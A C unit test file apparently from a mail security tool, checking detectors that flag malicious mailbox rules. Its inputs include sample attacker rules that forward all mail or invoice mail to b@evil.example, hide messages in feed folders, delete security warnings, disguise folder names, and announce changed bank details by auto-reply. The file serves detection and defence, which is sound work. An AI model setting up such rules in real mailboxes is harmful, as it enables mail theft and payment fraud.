/* test_detect_rules.c - what the rule detectors must and must not say. */
#include "detect_support.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

struct row {
    const char *what, *rule, *want; /* want NULL: nothing */
    enum severity severity;
};

static void run_rows(void **state, const char *id, const struct row *rows, size_t count)
{
    struct bench *bench = *state;

    for (size_t i = 0; i < count; i++) {
        bench_clear(bench);
        bench_habit(bench, 6);
        bench_run(bench, id, bench_rule(bench, rows[i].rule), true);
        bench_expect(bench, id, rows[i].what, rows[i].want, rows[i].severity);
    }
}

static void a_rule_that_sends_mail_outside_is_told(void **state)
{
    static const struct row rows[] = {
        {"moves only", "a | subject has order | move Projects", NULL, 0},
        {"own domain", "a | subject has order | forward b@ACME.example", NULL, 0},
        {"below the own domain", "a | subject has order | forward b@mail.acme.example", NULL, 0},
        {"own address, any case", "a | subject has order | forward An@Acme.example", NULL, 0},
        {"ends like the own domain", "work | subject has order | forward+ b@notacme.example",
         "forwards to b@notacme.example", SEVERITY_HIGH},
        {"with a copy", "work | from has boss@x.example | forward+ b@evil.example",
         "rule \"work\" forwards to b@evil.example", SEVERITY_HIGH},
        {"keeps no copy", "work | from has x@x.example | forward b@evil.example", "keeps no copy",
         SEVERITY_CRITICAL},
        {"kept by hand", "work | from has x@x.example | forward b@evil.example & keep",
         "sends mail to b@evil.example", SEVERITY_HIGH},
        {"all mail", "- | always | forward+ b@evil.example",
         "sends a copy of all mail to b@evil.example", SEVERITY_CRITICAL},
        {"and into the feeds", "x1 | subject has order | forward b@evil.example & move RSS Feeds",
         "put out of sight, into RSS Feeds", SEVERITY_CRITICAL},
        {"free mail", "copy | subject has order | forward+ acme@gmail.com",
         "anybody can get an address", SEVERITY_HIGH},
        {"relay", "copy | subject has order | forward+ acme@duck.com", "address it hides",
         SEVERITY_HIGH},
        {"imitates a partner", "copy | subject has order | forward+ buyer@partmer.example",
         "imitates partner.example", SEVERITY_CRITICAL},
        {"notifies an address", "n | subject has order | notify mailto:b@evil.example",
         "sends mail to b@evil.example", SEVERITY_HIGH},
        {"notifies nobody", "n | subject has order | notify xmpp:b", NULL, 0},
    };

    run_rows(state, "rule-forwards-outside", rows, ARRAY_LEN(rows));
}

static void a_rule_that_hides_mail_is_told(void **state)
{
    static const struct row rows[] = {
        {"ordinary folder", "Orders | subject has order | move Projects", NULL, 0},
        {"spam into junk", "spam | header:X-Spam-Flag is YES | move Junk", NULL, 0},
        {"copied into the archive", "a | from has x@x.example | copy Archive & keep", NULL, 0},
        {"list into the archive", "a | list has dev.example | move Archive", "the archive",
         SEVERITY_LOW},
        {"one sender into the archive", "a.b | from has news@x.example | move Archive",
         "the archive", SEVERITY_LOW},
        {"a partner into the archive, read", "a.b | from has partner.example | move Archive & seen",
         "with whom the owner exchanged 6 mails", SEVERITY_MEDIUM},
        {"a partner into the feeds", "Khuyến mãi | from has buyer@partner.example | move RSS Feeds",
         "with whom the owner exchanged 6 mails", SEVERITY_HIGH},
        {"money into the feeds", "x | subject has invoice | move RSS Feeds", "\"invoice*\"",
         SEVERITY_HIGH},
        {"own people", "boss | from has @acme.example | move Conversation History & seen",
         "own organisation", SEVERITY_HIGH},
        {"everything", "all | always | move RSS Feeds & seen", "acts on every message",
         SEVERITY_CRITICAL},
        {"everything, said otherwise", "all | header:received exists | move INBOX.RSS",
         "acts on every message", SEVERITY_CRITICAL},
        {"everything, out of the inbox and read", "x.y | query is from:* | archive & seen",
         "acts on every message", SEVERITY_HIGH},
        {"nearly everything, out of the inbox and read",
         "x.y | query is in:anywhere -from:me | archive & seen", "spare little", SEVERITY_MEDIUM},
        {"a bulletin, out of the inbox and read", "n | from has news@x.example | archive & seen",
         NULL, 0},
        {"what is not spam, into junk", "x.y | !header:X-Spam-Flag is YES | move Junk",
         "spare little", SEVERITY_MEDIUM},
        {"a folder with no name to speak of", "x.y | from has buyer@partner.example | move ..",
         "easy to overlook", SEVERITY_HIGH},
        {"an archive with a letter of another script",
         "a.b | from has a@x.example | move \u0410rchive & seen", "the archive", SEVERITY_LOW},
        {"an archive with a letter that nobody sees",
         "x.y | from has buyer@partner.example | move Arch<U+200B>ive", "easy to overlook",
         SEVERITY_HIGH},
        {"a folder that nobody sees", "x.y | from has a@x.example | move <U+200B>",
         "easy to overlook", SEVERITY_MEDIUM},
        {"a false inbox", "x.y | from has a@x.example | move INB0X", "easy to overlook",
         SEVERITY_MEDIUM},
        {"the inbox", "x.y | from has a@x.example | move Inbox", NULL, 0},
        {"a version below the inbox", "x.y | from has a@x.example | move INBOX.v2.0", NULL, 0},
        {"below the inbox, one letter", "x.y | from has a@x.example | move INBOX.x",
         "easy to overlook", SEVERITY_MEDIUM},
        {"Vietnamese folder", "a.b | from has a@x.example | move Nguồn cấp RSS", "news feeds",
         SEVERITY_MEDIUM},
        {"without marks", "a.b | from has a@x.example | move Lich su hoi thoai", "old chats",
         SEVERITY_MEDIUM},
        {"Chinese folder", "a.b | from has a@x.example | move RSS 订阅", "news feeds",
         SEVERITY_MEDIUM},
        {"Chinese folder of two characters is a word", "a.b | from has a@x.example | move 客户",
         NULL, 0},
    };

    run_rows(state, "rule-hides", rows, ARRAY_LEN(rows));
}

static void a_rule_that_deletes_mail_is_told(void **state)
{
    static const struct row rows[] = {
        {"spam thrown away", "spam | header:X-Spam-Level has ***** | discard", NULL, 0},
        {"list binned", "list | list has dev.example | move Trash", NULL, 0},
        {"keeps", "k | subject has order | keep", NULL, 0},
        {"a bulletin binned", "news | from has bulletin@x.example | move Trash", NULL, 0},
        {"a bulletin thrown away", "news | from has bulletin@x.example | discard", "leaves nothing",
         SEVERITY_LOW},
        {"all mail", "- | always | discard", "all of it", SEVERITY_CRITICAL},
        {"all mail, by its length", "x.y | size over 0 | discard", "all of it", SEVERITY_CRITICAL},
        {"all mail, one of several ways", "x.y | any subject has order & never & always | discard",
         "all of it", SEVERITY_CRITICAL},
        {"all but what does not occur", "x.y | !subject has zxqv | discard", "spare little",
         SEVERITY_MEDIUM},
        {"all but what does not occur, searched", "x.y | !query has zxqv | delete", "spare little",
         SEVERITY_MEDIUM},
        {"what is not marked as spam", "x.y | !spam is YES | discard", "spare little",
         SEVERITY_MEDIUM},
        {"what is marked as no spam", "x.y | spam has No, score=0.1 | discard", "spare little",
         SEVERITY_MEDIUM},
        {"what comes from no list", "x.y | !list exists | delete", "spare little", SEVERITY_MEDIUM},
        {"what is not huge", "x.y | size under 100M | discard", "spare little", SEVERITY_MEDIUM},
        {"what is not huge, said otherwise", "x.y | !size over 100M | discard", "spare little",
         SEVERITY_MEDIUM},
        {"what comes after a day", "x.y | date:year over 2020 | discard", "spare little",
         SEVERITY_MEDIUM},
        {"what a server wrote", "x.y | header:Received has from | discard", "spare little",
         SEVERITY_MEDIUM},
        {"what has a header that all mail has", "x.y | header:MIME-Version exists | discard",
         "spare little", SEVERITY_MEDIUM},
        {"senders in .com", "x.y | from has .com | discard", "spare little", SEVERITY_MEDIUM},
        {"a domain with a dot", "x.y | from:domain matches *.* | discard", "spare little",
         SEVERITY_MEDIUM},
        {"one of a few common words",
         "x.y | any subject has zz & from has com & from has org | "
         "discard",
         "spare little", SEVERITY_MEDIUM},
        {"a pattern that names nothing", "x.y | from regex .+@.+ | discard", "spare little",
         SEVERITY_MEDIUM},
        {"a pattern that names somebody", "x.y | from regex .*news.*@.+ | discard",
         "leaves nothing", SEVERITY_LOW},
        {"mail that is not in parts", "x.y | header:Content-Type has text/plain | discard",
         "leaves nothing", SEVERITY_LOW},
        {"mail with a list's header", "x.y | header:List-Id exists | discard", NULL, 0},
        {"huge mail", "big | size over 20M | discard", NULL, 0},
        {"mail that lacks what all mail has", "broken | !header:from,message-id exists | discard",
         "leaves nothing", SEVERITY_LOW},
        {"mail that is not sent to the owner", "news | !recipient has an@acme.example | delete",
         NULL, 0},
        {"some mail but what it names",
         "news | from has shop.example & !subject has order | delete", NULL, 0},
        {"warnings", "Cảnh báo | subject has hacked;new sign-in | discard & stop",
         "it waits for warnings (\"hack*\")", SEVERITY_HIGH},
        {"warnings in Chinese", "整理 | subject has 密码 | delete", "it waits for warnings",
         SEVERITY_MEDIUM},
        {"a partner", "x.y | from is buyer@partner.example | discard",
         "with whom the owner exchanged 6 mails", SEVERITY_MEDIUM},
        {"own people", "x.y | from has @acme.example | delete", "own organisation",
         SEVERITY_MEDIUM},
        {"an imitation of a partner", "x.y | from has buyer@partmer.example | delete",
         "whose domain imitates partner.example", SEVERITY_MEDIUM},
        {"refused", "x.y | from is buyer@partner.example | reject no such user", "refuses mail",
         SEVERITY_MEDIUM},
        {"flagged deleted", "x.y | subject has phishing | flag \\Deleted", "it waits for warnings",
         SEVERITY_MEDIUM},
    };

    run_rows(state, "rule-deletes", rows, ARRAY_LEN(rows));
}

static void words_of_money_or_warnings_are_told(void **state)
{
    static const struct row rows[] = {
        {"filed by words into an ordinary folder", "Bills | subject has invoice | move Projects",
         NULL, 0},
        {"a sender whose address holds the word", "a | from has alerts@x.example | discard", NULL,
         0},
        {"a list whose name holds the word", "a | list has security.x.example | discard", NULL, 0},
        {"a header of lists", "a | header:List-Id has payment | discard", NULL, 0},
        {"part of another word", "a | subject has bankruptcy;embankment | discard", NULL, 0},
        {"not these words", "a | !subject has invoice | discard", NULL, 0},
        {"hidden", "a.b | subject has Invoice | move RSS Feeds", "about money (\"invoice*\")",
         SEVERITY_HIGH},
        {"the beginning of a word", "a.b | subject has invoi | move RSS Feeds",
         "about money (\"invoice*\")", SEVERITY_HIGH},
        {"in the body", "a.b | body has wire;payment | discard", "money", SEVERITY_HIGH},
        {"sent out", "a.b | text has payment details | forward+ b@evil.example",
         "sends it to b@evil.example", SEVERITY_HIGH},
        {"pattern", "a.b | subject regex .*\\bpayments?\\b.* | discard", "money", SEVERITY_HIGH},
        {"Vietnamese", "a.b | subject has thanh toán | discard", "thanh toán", SEVERITY_HIGH},
        {"Vietnamese without marks", "a.b | subject has hoa don | discard", "hóa đơn",
         SEVERITY_HIGH},
        {"Vietnamese, the other tone place", "a.b | subject has hoá đơn | discard", "hóa đơn",
         SEVERITY_HIGH},
        {"Chinese inside a text", "a.b | subject has 关于付款的事 | discard", "付款",
         SEVERITY_HIGH},
        {"warnings", "a.b | subject has undeliverable | delete", "about security", SEVERITY_HIGH},
        {"read, into a folder that only the server can name",
         "a.b | subject has invoice | move AAMkAGQ1= & seen", "only the server can tell",
         SEVERITY_LOW},
        {"left in the inbox, as if read", "a.b | subject has invoice | seen",
         "looks as if it had been read", SEVERITY_LOW},
        {"both, hidden and sent out",
         "a.b | subject has password;bank | forward b@evil.example & move RSS Feeds & seen",
         "both sends the mail out and takes it away", SEVERITY_CRITICAL},
    };

    run_rows(state, "rule-money-or-security", rows, ARRAY_LEN(rows));
}

/* The shapes of rules in the logs of real thefts (detections.md 14, 7): each must be told. */
static void the_shapes_of_real_thefts_are_told(void **state)
{
    static const struct {
        const char *rule, *detector;
        enum severity severity;
    } rows[] = {
        {"Financial Reporting | always | forward+ b@evil.example", "rule-forwards-outside",
         SEVERITY_CRITICAL},
        {"Attention | subject has Attention | delete", "rule-deletes", SEVERITY_LOW},
        {"Attention | subject has Attention | discard", "rule-deletes", SEVERITY_LOW},
        {"invoices | subject has invoice | move Deleted Items", "rule-deletes", SEVERITY_MEDIUM},
        {"invoices | subject has invoice | move Deleted Items", "rule-money-or-security",
         SEVERITY_HIGH},
        {"all | always | delete & seen", "rule-deletes", SEVERITY_CRITICAL},
        {". | from has somebody@x.example | move Archive & seen", "rule-hides", SEVERITY_MEDIUM},
        {"fw | body has Invoice;Payments | forward+ b@evil.example", "rule-money-or-security",
         SEVERITY_HIGH},
        {". | body has Katrin Albers | delete", "rule-deletes", SEVERITY_MEDIUM},
        {"it.co | from has buyer@partmer.example | delete", "rule-deletes", SEVERITY_MEDIUM},
        {"meetings | always | copy Junk & delete", "rule-deletes", SEVERITY_CRITICAL},
    };
    struct bench *bench = *state;

    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        bench_clear(bench);
        bench_habit(bench, 6);
        bench_run(bench, rows[i].detector, bench_rule(bench, rows[i].rule), true);
        bench_expect(bench, rows[i].detector, rows[i].rule, "", rows[i].severity);
    }
}

static void an_odd_name_is_told_and_no_more(void **state)
{
    static const struct row rows[] = {
        {"Chinese", "财务 | from has x@x.example | discard", NULL, 0},
        {"Vietnamese", "Hóa đơn | from has x@x.example | discard", NULL, 0},
        {"none in a script by hand", "- | from has x@x.example | discard", NULL, 0},
        {"made by a program, harmless", "Rule 1 | from has x@x.example | move Projects", NULL, 0},
        {"three letters, harmless", "dev | from has x@x.example | move Projects", NULL, 0},
        {"a dot", ". | from has x@x.example | move Projects", "not one letter or digit",
         SEVERITY_LOW},
        {"a dot, and acts", ". | from has x@x.example | discard", "takes mail out of sight",
         SEVERITY_MEDIUM},
        {"two dots", ".. | always | forward b@evil.example", "sends mail outside", SEVERITY_MEDIUM},
        {"one character again and again", "aaa | from has x@x.example | discard",
         "one character repeated", SEVERITY_MEDIUM},
        {"cannot be seen", "a\u200b | from has x@x.example | discard", "cannot be seen",
         SEVERITY_MEDIUM},
        {"digits", "12 | from has x@x.example | discard", "only digits", SEVERITY_MEDIUM},
        {"made by a program, and acts", "Rule 1 | from has x@x.example | discard",
         "the mail program made up", SEVERITY_LOW},
    };

    run_rows(state, "rule-odd-name", rows, ARRAY_LEN(rows));
}

static void an_empty_name_is_not_the_same_as_none(void **state)
{
    struct bench *bench = *state;
    struct rule *rule;

    bench_clear(bench);
    rule = bench_rule(bench, "- | from has x@x.example | discard");
    rule->traits = 0;
    bench_run(bench, "rule-odd-name", rule, true);
    bench_expect(bench, "rule-odd-name", "empty", "an empty name", SEVERITY_MEDIUM);
}

static void what_is_neither_known_nor_usual_is_told(void **state)
{
    static const struct row rows[] = {
        {"moves", "a | subject has order | move Projects", NULL, 0},
        {"what is known to do little", "a | subject has order | other pin to the top", NULL, 0},
        {"a notice by mail is a forward", "a | always | notify mailto:b@evil.example", NULL, 0},
        {"a phone", "a | always | notify tel:+15550100", "learns of each such mail: tel:+15550100",
         SEVERITY_MEDIUM},
    };
    static const struct row strange[] = {
        {"not known", "a | always | other snooze", "it was not examined what this does: snooze",
         SEVERITY_LOW},
        {"not known, of another address", "a | always | other Publish b@evil.example",
         "b@evil.example is outside", SEVERITY_HIGH},
        {"not known, of an own address", "a | always | other Publish an@acme.example",
         "it was not examined", SEVERITY_LOW},
        {"another text", "a | always | other replace \"x\";", "does not see the mail as it came",
         SEVERITY_MEDIUM},
    };
    struct bench *bench = *state;

    run_rows(state, "rule-odd-deed", rows, ARRAY_LEN(rows));
    for (size_t i = 0; i < ARRAY_LEN(strange); i++) {
        struct rule *rule;

        bench_clear(bench);
        rule = bench_rule(bench, strange[i].rule);
        rule->source = "sieve";
        rule->traits |= RULE_STRANGE;
        bench_run(bench, "rule-odd-deed", rule, true);
        bench_expect(bench, "rule-odd-deed", strange[i].what, strange[i].want, strange[i].severity);
    }
}

static void a_program_run_by_a_rule_is_told(void **state)
{
    static const struct row rows[] = {
        {"moves", "a | subject has order | move Projects", NULL, 0},
        {"pipe", "a | subject has order | run sendout.sh", "runs sendout.sh", SEVERITY_HIGH},
        {"a tag before subjects", "a | always | header prepend Subject: [EXTERNAL]",
         "changes header prepend Subject: [EXTERNAL]", SEVERITY_LOW},
        {"takes headers off", "a | always | header Received", "changes header Received",
         SEVERITY_MEDIUM},
    };

    run_rows(state, "rule-runs-program", rows, ARRAY_LEN(rows));
}

static void an_automatic_reply_that_points_elsewhere_is_told(void **state)
{
    static const struct row rows[] = {
        {"on holiday", "v | always | reply I am away until Monday.", NULL, 0},
        {"to a colleague", "v | always | reply Please write to bo@acme.example.", NULL, 0},
        {"own web page", "v | always | reply See https://www.acme.example/news", NULL, 0},
        {"to somebody else", "v | always | reply Write to an@acme-export.example.",
         "names an@acme-export.example", SEVERITY_MEDIUM},
        {"link", "v | always | reply See http://files.example/x", "a link to files.example",
         SEVERITY_LOW},
        {"account", "v | always | reply Pay to IBAN DE89 3704 0044 0532 0130 00 from now on",
         "DE89370400440532013000", SEVERITY_HIGH},
        {"changed account",
         "v | always | reply Our bank account has changed to account no: 0071001234567 bank X",
         "announces other bank details", SEVERITY_CRITICAL},
        {"changed account without a number", "v | always | reply Please use our new bank account.",
         "announces other bank details", SEVERITY_MEDIUM},
        {"account between tags",
         "v | always | reply <b>DE89</b>3704<!-- x -->0044 0532 0130 00 IBAN",
         "DE89370400440532013000", SEVERITY_HIGH},
        {"address in brackets", "v | always | reply Write to Bo <an@acme-export.example>.",
         "names an@acme-export.example", SEVERITY_MEDIUM},
        {"as a mail in base64",
         "v | always | reply Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n"
         "SUJBTiBERTg5MzcwNDAwNDQwNTMyMDEzMDAw",
         "DE89370400440532013000", SEVERITY_HIGH},
        {"wrong checksum is no IBAN", "v | always | reply Ref DE88 3704 0044 0532 0130 00", NULL,
         0},
    };

    run_rows(state, "rule-auto-reply", rows, ARRAY_LEN(rows));
}

static void a_script_kept_ready_is_told(void **state)
{
    struct bench *bench = *state;

    bench_clear(bench);
    bench_run(bench, "rule-inactive-script",
              bench_rule(bench, "all | always | forward+ b@evil.example"), false);
    bench_expect(bench, "rule-inactive-script", "leaks", "does not run, but", SEVERITY_LOW);
    bench_run(bench, "rule-inactive-script",
              bench_rule(bench, ".. | subject has invoice | forward b@evil.example"), false);
    bench_expect(bench, "rule-inactive-script", "prepared", "wait for \"invoice*\"",
                 SEVERITY_MEDIUM);
    bench_run(bench, "rule-inactive-script",
              bench_rule(bench, "a | always | forward+ b@evil.example"), true);
    bench_expect(bench, "rule-inactive-script", "it runs: others tell", NULL, 0);
    bench_run(bench, "rule-inactive-script",
              bench_rule(bench, "a | subject has order | move Projects"), false);
    bench_expect(bench, "rule-inactive-script", "harmless", NULL, 0);
}

static void an_inactive_script_leaks_nothing(void **state)
{
    static const char *const ids[] = {"rule-forwards-outside", "rule-hides", "rule-deletes",
                                      "rule-money-or-security", "rule-odd-name"};
    struct bench *bench = *state;

    for (size_t i = 0; i < ARRAY_LEN(ids); i++) {
        bench_clear(bench);
        bench_run(bench, ids[i],
                  bench_rule(bench, ". | subject has bank | forward b@evil.example & discard"),
                  false);
        bench_expect(bench, ids[i], "inactive", NULL, 0);
    }
}

static void a_comment_that_hides_the_code_is_told(void **state)
{
    struct bench *bench = *state;
    struct rule *rule;

    bench_clear(bench);
    rule = bench_rule(bench, "a | always | forward+ b@evil.example");
    bench_run(bench, "rule-comment-differs", rule, true);
    bench_expect(bench, "rule-comment-differs", "no comment", NULL, 0);
    rule->traits = RULE_SHOWN;
    rule->shown = "if from contains \"newsletter\": move to Archive";
    bench_run(bench, "rule-comment-differs", rule, true);
    bench_expect(bench, "rule-comment-differs", "they agree", NULL, 0);
    rule->actual = "always: forward to b@evil.example";
    bench_run(bench, "rule-comment-differs", rule, true);
    bench_expect(bench, "rule-comment-differs", "they differ", "the script really does",
                 SEVERITY_HIGH);
    bench_run(bench, "rule-comment-differs", rule, false);
    bench_expect(bench, "rule-comment-differs", "they differ in a script that does not run",
                 "the script, which does not run, says", SEVERITY_MEDIUM);
    rule->traits = RULE_UNSHOWN;
    bench_run(bench, "rule-comment-differs", rule, true);
    bench_expect(bench, "rule-comment-differs", "not shown", "does not show", SEVERITY_HIGH);
    rule->traits = RULE_SHOWN_ONLY;
    bench_run(bench, "rule-comment-differs", rule, true);
    bench_expect(bench, "rule-comment-differs", "emptied", "does not run", SEVERITY_LOW);
    rule->traits = RULE_FOREIGN;
    rule->dialect = "sievelib";
    bench_run(bench, "rule-comment-differs", rule, true);
    bench_expect(bench, "rule-comment-differs", "two editors", "another editor", SEVERITY_MEDIUM);
}

static void a_script_put_in_the_place_of_the_webmails_is_told(void **state)
{
    struct bench *bench = *state;
    struct rule *running, *edited;

    bench_clear(bench);
    running = bench_rule(bench, "- | always | forward+ b@evil.example");
    edited = bench_rule(bench, "Lists | list has dev.example | move Projects");
    edited->script = "roundcube";
    bench_run_two(bench, "rule-script-swapped", running, edited);
    bench_expect(bench, "rule-script-swapped", "no editor is known", NULL, 0);
    edited->dialect = "roundcube";
    bench_run_two(bench, "rule-script-swapped", running, edited);
    bench_expect(bench, "rule-script-swapped", "swapped",
                 "\"main\" runs, but the webmail edits \"roundcube\"", SEVERITY_HIGH);
    running->dialect = "roundcube";
    bench_run_two(bench, "rule-script-swapped", running, edited);
    bench_expect(bench, "rule-script-swapped", "the webmail's own", NULL, 0);
    running->dialect = "";
    bench_run_two(bench, "rule-script-swapped", running, NULL);
    bench_expect(bench, "rule-script-swapped", "one script by hand", NULL, 0);
}

static void a_rule_that_is_switched_off_weighs_less(void **state)
{
    struct bench *bench = *state;
    struct rule *rule;

    bench_clear(bench);
    rule = bench_rule(bench, "work | subject has order | forward+ b@evil.example");
    rule->enabled = false;
    bench_run(bench, "rule-forwards-outside", rule, true);
    bench_expect(bench, "rule-forwards-outside", "off", "switched off", SEVERITY_MEDIUM);
}

/* A file of Sieve does not tell whether it is the script that runs; the server does. */
static void a_script_out_of_a_file_is_not_said_to_run(void **state)
{
    struct bench *bench = *state;
    struct rule_row rows[2] = {bench_row(1, true), bench_row(1, true)};

    rows[1].from_file = true;
    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
        struct rule_facts rule = {&rows[i], NULL};

        bench_clear(bench);
        rule.rule = bench_rule(bench, "work | subject has order | forward+ b@evil.example");
        bench_run_rules(bench, "rule-forwards-outside", &rule, 1);
        bench_expect(bench, "rule-forwards-outside", "a file", "forwards to b@evil.example",
                     SEVERITY_HIGH);
        assert_int_equal(bench_says(bench, "it comes out of a file"), rows[i].from_file);
    }
}

static const struct CMUnitTest tests[] = {
    cmocka_unit_test(a_rule_that_sends_mail_outside_is_told),
    cmocka_unit_test(a_rule_that_hides_mail_is_told),
    cmocka_unit_test(a_rule_that_deletes_mail_is_told),
    cmocka_unit_test(words_of_money_or_warnings_are_told),
    cmocka_unit_test(the_shapes_of_real_thefts_are_told),
    cmocka_unit_test(an_odd_name_is_told_and_no_more),
    cmocka_unit_test(an_empty_name_is_not_the_same_as_none),
    cmocka_unit_test(what_is_neither_known_nor_usual_is_told),
    cmocka_unit_test(a_program_run_by_a_rule_is_told),
    cmocka_unit_test(an_automatic_reply_that_points_elsewhere_is_told),
    cmocka_unit_test(a_script_kept_ready_is_told),
    cmocka_unit_test(an_inactive_script_leaks_nothing),
    cmocka_unit_test(a_comment_that_hides_the_code_is_told),
    cmocka_unit_test(a_script_put_in_the_place_of_the_webmails_is_told),
    cmocka_unit_test(a_rule_that_is_switched_off_weighs_less),
    cmocka_unit_test(a_script_out_of_a_file_is_not_said_to_run),
};

const struct CMUnitTest *detect_rule_tests(size_t *count)
{
    *count = ARRAY_LEN(tests);
    return tests;
}
